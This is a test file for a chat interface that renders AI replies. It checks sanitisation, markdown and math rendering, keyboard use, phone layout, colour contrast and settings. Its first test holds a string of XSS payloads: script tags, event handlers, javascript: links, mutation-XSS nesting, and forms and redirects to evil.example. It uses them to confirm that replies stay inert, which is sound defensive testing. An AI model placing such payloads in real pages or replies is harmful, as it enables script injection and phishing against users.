// What replies may and may not do to the page, and who can use it: keyboard, phone, darkness.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { ask, attach, example, finish, launch, open, pretend } from "./page.mjs";

before(launch);
after(finish);

const HOSTILE = `
<script>window.hit = 1</script><img src=x onerror="window.hit=2"><img src="https://evil.example/a.png">
<svg onload="window.hit=3"><animate onbegin="window.hit=4" attributeName=x dur=1s></svg>
<iframe src="javascript:window.hit=5"></iframe><object data="https://evil.example/o"></object>
<a href="javascript:window.hit=6">a</a> [b](javascript:window.hit=7) [c](data:text/html,<script>window.hit=8</script>)
![d](https://evil.example/b.png) ![e](javascript:window.hit=9 "t\\" onerror=\\"window.hit=10")
<style>body{display:none}</style><link rel=stylesheet href="https://evil.example/c.css"><meta http-equiv=refresh content="0;url=https://evil.example">
<div style="position:fixed;inset:0;background:url(https://evil.example/d)" class="drop app" id="app">x</div>
<form action="https://evil.example"><input name=key autofocus><button formaction="https://evil.example">Send</button></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.hit=11&gt;">
<dialog open>you must log in</dialog><video src="https://evil.example/v" autoplay></video><base href="https://evil.example/">
\`\`\`html "><img src=x onerror=window.hit=12>
</code></pre><img src=x onerror="window.hit=13"><script>window.hit=14</script>
\`\`\`
$\\href{javascript:window.hit=15}{x}$ $\\htmlData{x=1}{y}$ $\\includegraphics{https://evil.example/k.png}$ $$\\def\\a{\\a\\a}\\a$$
<details ontoggle="window.hit=16" open><summary>z</summary></details><p tabindex=0 onfocus=window.hit=17 autofocus>p</p>
[{"bbox_2d": [1,2,3,4], "label": "<img src=x onerror=window.hit=18>"}]
`;

test("hostile replies stay text", async () => {
  const page = await open({ hostile: true });
  await pretend(page, HOSTILE, "<img src=x onerror=window.hit=19>");
  await attach(page, example("heart-diamond-circle.png"));
  const reply = await ask(page, "<img src=x onerror=window.hit=20>");
  await page.waitForTimeout(500);
  assert.equal(await page.evaluate(() => window.hit), undefined);
  const left = await reply.locator(".markdown").evaluate((m) =>
    [...m.querySelectorAll("*")]
      .filter((e) => /^(script|img|svg|iframe|object|style|link|meta|form|input|video|base|dialog|embed)$/i.test(e.tagName) || [...e.attributes].some((a) => /^on|^style$|^id$|^name$/.test(a.name) || /javascript:|evil/.test(a.name === "href" && a.value.startsWith("https:") ? "" : a.value)))
      .map((e) => e.outerHTML),
  );
  assert.deepEqual(left, []);
  for (const link of await reply.locator(".markdown a[href]").all()) {
    assert.match(await link.getAttribute("rel"), /noopener noreferrer/);
    assert.match(await link.getAttribute("href"), /^https?:/);
  }
  assert.ok(await page.locator(".composer").isVisible());
  await page.context().close();
});

test("tables, code and formulas are drawn; thoughts are folded", async () => {
  const page = await open();
  await pretend(page, "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\ndef f(x): return 1\n```\n\nSo $E = mc^2$ and \\(a<b\\), it costs $5 or $6.\n\n\\[\\frac{1}{2}\\]\n\n- [x] done", "first I look");
  const reply = await ask(page, "go");
  await reply.locator("math").first().waitFor();
  assert.equal(await reply.locator("td").count(), 2);
  await reply.locator(".hljs-keyword").first().waitFor();
  assert.equal(await reply.locator("math").count(), 3);
  assert.equal(await reply.locator("math[display=block] mfrac").count(), 1);
  const text = await reply.locator(".markdown").innerText();
  assert.match(text, /it costs \$5 or \$6/);
  assert.doesNotMatch(text, /mc\^2|\\frac/);
  assert.ok(!(await reply.getByText("first I look").isVisible()));
  await reply.getByText("Thoughts").click();
  assert.ok(await reply.getByText("first I look").isVisible());
  await page.context().close();
});

test("with the keyboard alone", async () => {
  const page = await open();
  await page.getByText("Try a drawn example").waitFor();
  await page.keyboard.press("Tab");
  assert.equal(await page.evaluate(() => document.activeElement.className), "skip");
  await page.keyboard.press("Enter");
  await page.keyboard.type("Describe this image.");
  for (let i = 0; i < 4; i++) await page.keyboard.press("Tab");
  assert.equal(await page.evaluate(() => document.activeElement.textContent), "Prompts");
  await page.keyboard.press("Enter");
  await page.getByRole("dialog").waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("dialog").waitFor({ state: "detached" });
  await page.keyboard.press("/");
  await page.keyboard.press("Control+k");
  await page.waitForFunction(() => document.activeElement.id === "search");
  await page.locator("#message").focus();
  await page.keyboard.press("Enter");
  await page.locator(".reply .timings").waitFor();
  await page.waitForFunction(() => document.querySelector(".unseen").textContent.startsWith("Reply:"));
  const unnamed = await page.evaluate(() =>
    [...document.querySelectorAll("button, input, select, textarea, summary, a[href]")].filter((e) => !(e.getAttribute("aria-label") || e.textContent.trim() || e.labels?.length)).map((e) => e.outerHTML),
  );
  assert.deepEqual(unnamed, []);
  await page.context().close();
});

test("on a phone nothing is wider than the screen", async () => {
  const page = await open({ context: { viewport: { width: 360, height: 720 }, hasTouch: true, isMobile: true } });
  const wide = () => page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
  assert.equal(await wide(), 0);
  await pretend(page, `| ${"a long heading | ".repeat(12)}\n|${"---|".repeat(12)}\n\n\`${"x".repeat(300)}\`\n\n[{"bbox_2d": [1,2,300,400], "label": "${"y".repeat(90)}"}]`);
  await attach(page, example("heart-diamond-circle.png"));
  await page.locator(".chip .grid").waitFor();
  assert.equal(await wide(), 0);
  await ask(page, "z".repeat(200));
  assert.equal(await wide(), 0);
  await page.getByRole("button", { name: "Show chats" }).tap();
  await page.locator(".sidebar[data-open]").waitFor();
  await page.getByRole("button", { name: "Hide chats" }).tap();
  await page.getByRole("button", { name: "Settings" }).tap();
  await page.locator(".drawer").waitFor();
  assert.equal(await wide(), 0);
  await page.context().close();
});

test("words can be read in the light and in the dark", async () => {
  for (const colorScheme of ["light", "dark"]) {
    const page = await open({ context: { colorScheme } });
    await pretend(page, "Some `code`, a [link](https://example.org) and\n\n> a quotation");
    await ask(page, "go");
    const contrasts = await page.evaluate(() => {
      const canvas = new OffscreenCanvas(1, 1).getContext("2d", { willReadFrequently: true });
      const rgb = (colour) => {
        canvas.clearRect(0, 0, 1, 1);
        canvas.fillStyle = colour;
        canvas.fillRect(0, 0, 1, 1);
        return [...canvas.getImageData(0, 0, 1, 1).data];
      };
      const light = (c) => [0.2126, 0.7152, 0.0722].reduce((sum, w, i) => sum + w * ((v) => (v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4))(c[i] / 255), 0);
      const behind = (e) => {
        for (let at = e; at; at = at.parentElement) {
          const c = rgb(getComputedStyle(at).backgroundColor);
          if (c[3] === 255) return c;
        }
        return [255, 255, 255];
      };
      return [".markdown p", ".markdown code", ".markdown a", ".markdown blockquote p", ".bubble", ".timings summary", ".header .facts", ".new-chat", ".foot .quiet", ".composer .hint"].map((s) => {
        const e = document.querySelector(s);
        const [a, b] = [light(rgb(getComputedStyle(e).color)), light(behind(e))].sort((x, y) => y - x);
        return [s, (a + 0.05) / (b + 0.05)];
      });
    });
    for (const [what, ratio] of contrasts) assert.ok(ratio >= 4.5, `${colorScheme} ${what} ${ratio}`);
    const back = await page.evaluate(() => getComputedStyle(document.querySelector("main")).backgroundColor);
    assert.equal(back, colorScheme === "dark" ? "rgb(22, 28, 27)" : "rgb(255, 255, 255)");
    await page.context().close();
  }
});

test("settings are sent as chosen, and wrong ones are not taken", async () => {
  const page = await open({ prefs: { sampling: {} } });
  await page.getByRole("button", { name: "Settings" }).click();
  await page.getByLabel("top_k", { exact: true }).fill("7");
  await page.getByLabel("top_p", { exact: true }).fill("5");
  await page.getByLabel("Preset").selectOption("ocr");
  await page.getByLabel("System prompt of this chat").fill("be brief");
  assert.equal(await page.getByLabel("temperature", { exact: true }).getAttribute("placeholder"), "0");
  const [request] = await Promise.all([page.waitForRequest("**/v1/chat/completions"), ask(page, "Hello")]);
  const sent = request.postDataJSON();
  assert.equal(sent.top_k, 7);
  assert.equal(sent.top_p, undefined);
  assert.equal(sent.preset, "ocr");
  assert.deepEqual(sent.messages[0], { role: "system", content: "be brief" });
  await page.context().close();
});
